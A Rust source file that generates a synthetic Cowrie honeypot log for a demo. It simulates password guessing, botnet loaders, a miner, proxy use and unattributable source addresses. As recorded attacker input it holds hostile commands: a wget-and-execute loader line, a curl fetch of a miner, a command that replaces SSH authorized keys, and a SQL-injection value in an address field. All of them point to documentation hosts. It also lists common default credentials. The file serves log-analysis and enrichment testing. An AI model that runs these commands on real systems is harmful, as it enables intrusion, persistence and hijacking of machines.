//! Writes the demo's synthetic honeypot log.
//!
//! All content is made up, but resembles the traffic that Cowrie records. There are guessed passwords, campaigns that
//! use one password from many networks, botnet loaders and miners. Other clients only connect, forward connections, or
//! are a person at a keyboard. Most addresses are drawn from a list of real networks. Others cannot be attributed, as
//! in real logs: private, IPv4-mapped, link-local, empty, or invalid. The same list and seed give the same log byte for
//! byte. Servers in download commands have documentation addresses and names (RFC 5737, RFC 2606), so that no real host
//! is accused.

use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use jiff::Timestamp;
use serde_json::{Map, Value, json};

use crate::networks::Network;

/// Start of the log: 2025-05-05T00:00:00Z, in seconds.
const START: i64 = 1_746_403_200;
/// Length of the log in seconds: a week.
const SPAN: u64 = 7 * 86_400;

const SENSORS: [&str; 2] = ["trap-frankfurt", "trap-singapore"];

/// An address whose network differs between the demo's two lists. It connects every day.
pub const MOVING: Ipv4Addr = Ipv4Addr::new(18, 193, 37, 112);

/// splitmix64: a generator of ten lines. Its output stays the same in all versions.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, limit: u64) -> u64 {
        self.next() % limit
    }

    fn one_of<'a, T>(&mut self, choices: &'a [T]) -> &'a T {
        &choices[self.below(choices.len() as u64) as usize]
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut text = String::new();
        while text.len() < digits {
            let _ = write!(text, "{:016x}", self.next());
        }
        text.truncate(digits);
        text
    }
}

/// The events of the whole log. They are sorted by time at the end, so that sessions interleave as in a real log.
struct Log {
    random: Random,
    events: Vec<(i64, usize, Map<String, Value>)>,
}

/// A session that is being written. `now` is in microseconds since 1970.
struct SyntheticSession<'a> {
    log: &'a mut Log,
    now: i64,
    began: i64,
    id: String,
    address: String,
    sensor: &'static str,
}

impl Log {
    fn visit(&mut self, address: &str, second: u64, protocol: &str) -> SyntheticSession<'_> {
        let id = self.random.hex(12);
        let sensor = SENSORS[self.random.below(2) as usize];
        let now = (START + second as i64) * 1_000_000 + self.random.below(1_000_000) as i64;
        let port = 1024 + self.random.below(64_000);
        let mut visit = SyntheticSession {
            log: self,
            now,
            began: now,
            id: id.clone(),
            address: address.to_owned(),
            sensor,
        };
        let local = if protocol == "ssh" { 2222 } else { 2223 };
        visit.event(
            "session.connect",
            json!({"src_port": port, "dst_ip": "172.17.0.3", "dst_port": local, "protocol": protocol,
                   "message": format!("New connection: {address}:{port} (172.17.0.3:{local}) [session: {id}]")}),
        );
        visit
    }

    fn write(mut self) -> String {
        self.events.sort_by_key(|(time, nth, _)| (*time, *nth));
        let mut text = String::new();
        for (_, _, event) in self.events {
            let _ = writeln!(text, "{}", Value::Object(event));
        }
        text
    }
}

impl SyntheticSession<'_> {
    fn event(&mut self, name: &str, fields: Value) {
        let time = Timestamp::from_microsecond(self.now).unwrap_or(Timestamp::UNIX_EPOCH);
        let Value::Object(mut event) = fields else {
            return;
        };
        event.insert("eventid".into(), format!("cowrie.{name}").into());
        event.insert("session".into(), self.id.as_str().into());
        event.insert("sensor".into(), self.sensor.into());
        event.insert("src_ip".into(), self.address.as_str().into());
        event.insert("timestamp".into(), format!("{time:.6}").into());
        let nth = self.log.events.len();
        self.log.events.push((self.now, nth, event));
    }

    fn wait(&mut self, least_ms: u64, more_ms: u64) -> &mut Self {
        self.now += (least_ms * 1000 + self.log.random.below(more_ms * 1000 + 1)) as i64;
        self
    }

    fn version(&mut self, version: &str) -> &mut Self {
        self.wait(20, 200).event(
            "client.version",
            json!({"version": version, "message": format!("Remote SSH version: {version}")}),
        );
        self
    }

    fn login(&mut self, success: bool, username: &str, password: &str) -> &mut Self {
        let (name, outcome) =
            if success { ("login.success", "succeeded") } else { ("login.failed", "failed") };
        self.wait(300, 1500).event(
            name,
            json!({"username": username, "password": password,
                   "message": format!("login attempt [{username}/{password}] {outcome}")}),
        );
        self
    }

    fn command(&mut self, input: &str) -> &mut Self {
        self.wait(100, 900)
            .event("command.input", json!({"input": input, "message": format!("CMD: {input}")}));
        self
    }

    fn unknown_command(&mut self, input: &str) -> &mut Self {
        self.wait(100, 900);
        self.event("command.input", json!({"input": input, "message": format!("CMD: {input}")}));
        self.event(
            "command.failed",
            json!({"input": input, "message": format!("Command not found: {input}")}),
        );
        self
    }

    fn download(&mut self, url: &str, shasum: &str) -> &mut Self {
        self.wait(200, 4000).event(
            "session.file_download",
            json!({"url": url, "shasum": shasum, "outfile": format!("var/lib/cowrie/downloads/{shasum}"),
                   "message": format!("Downloaded URL ({url}) with SHA-256 {shasum}")}),
        );
        self
    }

    fn terminal_log(&mut self) -> &mut Self {
        let sum = self.log.random.hex(64);
        let size = 200 + self.log.random.below(4000);
        let seconds = (self.now - self.began) / 1_000_000;
        self.wait(1, 20).event(
            "log.closed",
            json!({"ttylog": format!("var/lib/cowrie/tty/{sum}"), "size": size, "duration": seconds,
                   "message": format!("Closing TTY Log after {seconds} seconds")}),
        );
        self
    }

    fn close(&mut self) {
        self.wait(50, 2000);
        let seconds = (self.now - self.began) as f64 / 1e6;
        self.event(
            "session.closed",
            json!({"duration": (seconds * 10.0).round() / 10.0, "message": format!("Connection lost after {seconds:.0} seconds")}),
        );
    }
}

/// Returns any host of a network except its first.
fn address_in(random: &mut Random, network: &Network) -> IpAddr {
    let offset = 1 + u128::from(random.next()) % (network.width().max(2) - 1);
    match network.first {
        IpAddr::V4(first) => IpAddr::V4(Ipv4Addr::from(u32::from(first) + offset as u32)),
        // Real hosts are often at the start of an allocation, so one of the first 2^16 /64s is used.
        IpAddr::V6(first) => {
            let subnet = u128::from(random.below(1 << 16)) << 64;
            IpAddr::V6(Ipv6Addr::from(u128::from(first) | subnet | u128::from(1 + random.below(0xffff))))
        }
    }
}

/// Returns `count` addresses, each from a network whose organisation contains one of the words. Without words, all
/// networks are used.
fn hosts(random: &mut Random, list: &[Network], words: &[&str], count: usize) -> Vec<String> {
    let chosen: Vec<&Network> = list
        .iter()
        .filter(|network| {
            let organization =
                network.origin.as_ref().and_then(|origin| origin.organization.as_deref()).unwrap_or("");
            words.is_empty() || words.iter().any(|word| organization.contains(word))
        })
        .collect();
    (0..count)
        .map(|_| {
            let network = *random.one_of(&chosen);
            address_in(random, network).to_string()
        })
        .collect()
}

const HOSTING: [&str; 15] = [
    "Amazon",
    "DigitalOcean",
    "OVH",
    "Hetzner",
    "Akamai",
    "Constant Company",
    "Alibaba",
    "Tencent",
    "Contabo",
    "SCALEWAY",
    "Oracle",
    "Google",
    "Microsoft",
    "HUAWEI",
    "M247",
];
const ACCESS: [&str; 22] = [
    "CHINANET",
    "CHINA UNICOM",
    "China Mobile",
    "Korea Telecom",
    "SK Broadband",
    "Data Communication",
    "VNPT",
    "Viettel",
    "Jio",
    "Backbone",
    "PT Telekomunikasi",
    "Rostelecom",
    "Vimpelcom",
    "Turk",
    "Claro",
    "TELEFONICA",
    "UNINET",
    "Comcast",
    "Deutsche Telekom",
    "Orange",
    "Telecom Italia",
    "British",
];
const SCANNERS: [&str; 4] = ["CariNet", "Hurricane", "University of Michigan", "Censys"];

const VERSIONS: [&str; 5] =
    ["SSH-2.0-Go", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-libssh_0.9.6", "SSH-2.0-PUTTY", "SSH-2.0-OpenSSH_7.4"];
const USERNAMES: [&str; 12] =
    ["root", "root", "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi", "hadoop"];
const PASSWORDS: [&str; 14] = [
    "123456",
    "admin",
    "root",
    "password",
    "12345678",
    "1qaz2wsx",
    "P@ssw0rd",
    "qwerty",
    "raspberry",
    "test123",
    "ubuntu",
    "postgres",
    "111111",
    "toor",
];

/// Returns the whole log as text, one event per line.
pub fn cowrie_log(list: &[Network], seed: u64) -> String {
    let mut log = Log { random: Random(seed), events: Vec::new() };
    one_password(&mut log, list);
    authorized_key(&mut log, list);
    botnet_loader(&mut log, list);
    scanners(&mut log, list);
    guessers(&mut log, list);
    miner(&mut log, list);
    forwarders(&mut log, list);
    a_person(&mut log, list);
    unknown_networks(&mut log, list);
    moving_host(&mut log);
    nobodys_addresses(&mut log);
    log.write()
}

/// Adds sessions from many networks that try one distinctive password within days. An analyst should see them
/// as one campaign.
fn one_password(log: &mut Log, list: &[Network]) {
    let mut bots = hosts(&mut log.random, list, &HOSTING, 30);
    bots.extend(hosts(&mut log.random, list, &ACCESS, 12));
    for _ in 0..95 {
        let bot = log.random.one_of(&bots).clone();
        let second = 86_400 + log.random.below(SPAN - 2 * 86_400);
        log.visit(&bot, second, "ssh")
            .version("SSH-2.0-Go")
            .login(false, "345gs5662d34", "345gs5662d34")
            .close();
    }
}

/// Adds sessions of a few hosts that log in and install a key with the same commands.
fn authorized_key(log: &mut Log, list: &[Network]) {
    let bots = hosts(&mut log.random, list, &["Tencent", "Alibaba", "Korea Telecom", "Contabo", "Jio"], 12);
    let shasum = log.random.hex(64);
    for _ in 0..48 {
        let bot = log.random.one_of(&bots).clone();
        let second = log.random.below(SPAN);
        let mut visit = log.visit(&bot, second, "ssh");
        let user = "root";
        visit.version("SSH-2.0-libssh_0.9.6").login(true, user, "3245gs5662d34");
        visit.command("cd ~; chattr -ia .ssh; lockr -ia .ssh");
        visit.command("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAAexample rsa-key\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~");
        visit.event(
            "session.file_download",
            json!({"outfile": format!("var/lib/cowrie/downloads/{shasum}"), "shasum": shasum, "destfile": format!("/{user}/.ssh/authorized_keys"),
                   "message": "Saved redir contents"}),
        );
        visit.unknown_command("lockr -ia .ssh").terminal_log().close();
    }
}

/// Adds sessions of a botnet: Telnet, factory passwords, and downloads for one architecture after the other.
fn botnet_loader(log: &mut Log, list: &[Network]) {
    let bots = hosts(&mut log.random, list, &ACCESS, 60);
    let shasum = log.random.hex(64);
    for _ in 0..110 {
        let bot = log.random.one_of(&bots).clone();
        let second = log.random.below(SPAN);
        let (username, password) = *log.random.one_of(&[
            ("root", "xc3511"),
            ("root", "vizxv"),
            ("admin", "7ujMko0admin"),
            ("support", "support"),
        ]);
        let arch = *log.random.one_of(&["arm7", "mips", "mpsl", "x86"]);
        let loads = log.random.below(3) == 0;
        let mut visit = log.visit(&bot, second, "telnet");
        visit.login(true, username, password);
        for input in ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"] {
            visit.command(input);
        }
        if loads {
            visit.event("session.params", json!({"arch": "linux-x64-lsb", "message": []}));
            let url = format!("http://198.51.100.23/bins/{arch}");
            visit.command(&format!("cd /tmp; wget {url} -O .x; chmod +x .x; ./.x"));
            visit.download(&url, &shasum);
        } else {
            visit.wait(500, 3000).event(
                "session.file_download.failed",
                json!({"url": "http://203.0.113.77/w.sh", "message": "Attempt to download file(s) from URL (http://203.0.113.77/w.sh) failed"}),
            );
        }
        visit.terminal_log().close();
    }
}

/// Connects, sends a version, and disconnects.
fn scanners(log: &mut Log, list: &[Network]) {
    let addresses = hosts(&mut log.random, list, &SCANNERS, 14);
    for _ in 0..70 {
        let address = log.random.one_of(&addresses).clone();
        let second = log.random.below(SPAN);
        log.visit(&address, second, "ssh").version("SSH-2.0-Go").close();
    }
}

/// Adds background traffic: a few password guesses from each of many addresses.
fn guessers(log: &mut Log, list: &[Network]) {
    let addresses = hosts(&mut log.random, list, &[], 130);
    for _ in 0..190 {
        let address = log.random.one_of(&addresses).clone();
        let second = log.random.below(SPAN);
        let version = *log.random.one_of(&VERSIONS);
        let tries = 1 + log.random.below(4);
        let guesses: Vec<(&str, &str)> =
            (0..tries).map(|_| (*log.random.one_of(&USERNAMES), *log.random.one_of(&PASSWORDS))).collect();
        let mut visit = log.visit(&address, second, "ssh");
        visit.version(version);
        for (username, password) in guesses {
            visit.login(false, username, password);
        }
        visit.close();
    }
}

/// Inspects the machine, then downloads a miner.
fn miner(log: &mut Log, list: &[Network]) {
    let addresses = hosts(&mut log.random, list, &["Hetzner", "OVH", "Vimpelcom", "LeaseWeb"], 6);
    let shasum = log.random.hex(64);
    for _ in 0..24 {
        let address = log.random.one_of(&addresses).clone();
        let second = log.random.below(SPAN);
        let mut visit = log.visit(&address, second, "ssh");
        visit.version("SSH-2.0-PUTTY").login(false, "root", "admin").login(true, "root", "1qaz2wsx");
        visit.command("uname -a").command("nproc").command("cat /proc/cpuinfo | grep name | wc -l");
        visit.command("curl -s http://files.example/xmrig.tar.gz -o /tmp/.x.tgz");
        visit.download("http://files.example/xmrig.tar.gz", &shasum).terminal_log().close();
    }
}

/// Uses the login as a proxy.
fn forwarders(log: &mut Log, list: &[Network]) {
    let addresses = hosts(&mut log.random, list, &["M247", "Rostelecom", "LeaseWeb", "Telia"], 4);
    for _ in 0..22 {
        let address = log.random.one_of(&addresses).clone();
        let second = log.random.below(SPAN);
        let mut visit = log.visit(&address, second, "ssh");
        visit.version("SSH-2.0-libssh2_1.4.3").login(true, "admin", "admin");
        for (host, port, data) in [
            ("mail.example", 25, "EHLO example.org\r\n"),
            ("192.0.2.80", 80, "GET / HTTP/1.1\r\nHost: www.example\r\n\r\n"),
        ] {
            visit.wait(100, 500).event(
                "direct-tcpip.request",
                json!({"dst_ip": host, "dst_port": port, "src_port": 0, "message": format!("direct-tcp connection request to {host}:{port}")}),
            );
            visit.wait(10, 50).event(
                "direct-tcpip.data",
                json!({"dst_ip": host, "dst_port": port, "data": data, "message": format!("discarded direct-tcp forward request to {host}:{port}")}),
            );
        }
        visit.close();
    }
}

/// Adds sessions of a person at a keyboard, with a terminal and typing errors.
fn a_person(log: &mut Log, list: &[Network]) {
    let address = hosts(&mut log.random, list, &["Telia"], 1).remove(0);
    for day in [1, 4] {
        let fingerprint = "SHA256:examplefingerprintexamplefingerprintexample";
        let mut visit = log.visit(&address, day * 86_400 + 71_000, "ssh");
        visit.version("SSH-2.0-OpenSSH_9.6");
        visit.event(
            "client.fingerprint",
            json!({"username": "root", "fingerprint": fingerprint, "message": "public key attempt"}),
        );
        visit.login(false, "root", "hunter2").login(true, "root", "letmein");
        visit.event("client.size", json!({"width": 180, "height": 48, "message": "Terminal Size: 180 48"}));
        visit.wait(2000, 9000);
        visit
            .command("w")
            .unknown_command("ifcofnig")
            .command("ifconfig")
            .command("cat /etc/passwd")
            .command("exit");
        visit.terminal_log().close();
    }
}

/// Adds sessions from prefixes without a network in the list, so that an enrichment has to query providers.
fn unknown_networks(log: &mut Log, list: &[Network]) {
    let unknown: Vec<&Network> = list.iter().filter(|network| network.origin.is_none()).collect();
    for _ in 0..9 {
        let network = *log.random.one_of(&unknown);
        let address = address_in(&mut log.random, network).to_string();
        for _ in 0..2 {
            let second = log.random.below(SPAN);
            let mut visit = log.visit(&address, second, "ssh");
            visit.version("SSH-2.0-libssh_0.9.6").login(false, "root", "toor").close();
        }
    }
}

/// Adds sessions of one host that connects every day, before and after its prefix moves to another network.
fn moving_host(log: &mut Log) {
    for day in 0..7 {
        let second = day * 86_400 + 3_600 + log.random.below(80_000);
        log.visit(&MOVING.to_string(), second, "ssh")
            .version("SSH-2.0-Go")
            .login(false, "ubuntu", "ubuntu")
            .login(false, "ec2-user", "ec2-user")
            .close();
    }
}

/// Adds sessions whose `src_ip` is not a public address.
fn nobodys_addresses(log: &mut Log) {
    let sources = [
        "192.168.1.20",
        "10.11.0.4",
        "172.16.5.9",
        "127.0.0.1",
        "::1",
        "100.64.12.7",
        "169.254.10.1",
        "192.0.2.33",
        "2001:db8::17",
        "fe80::1%eth0",
        "fd12:3456:789a::5",
        "::ffff:218.92.0.112",
        "::ffff:138.68.90.14",
        "::ffff:192.168.1.20",
        "0.0.0.0",
        "255.255.255.255",
        "",
        "unknown",
        "1.2.3.4.5",
        "318.92.0.1",
        "UNIX",
        "scanner.example.org",
        "1.2.3.4; drop table sessions",
    ];
    for source in sources {
        for _ in 0..2 {
            let second = log.random.below(SPAN);
            log.visit(source, second, "ssh").version("SSH-2.0-Go").login(false, "root", "123456").close();
        }
    }
}
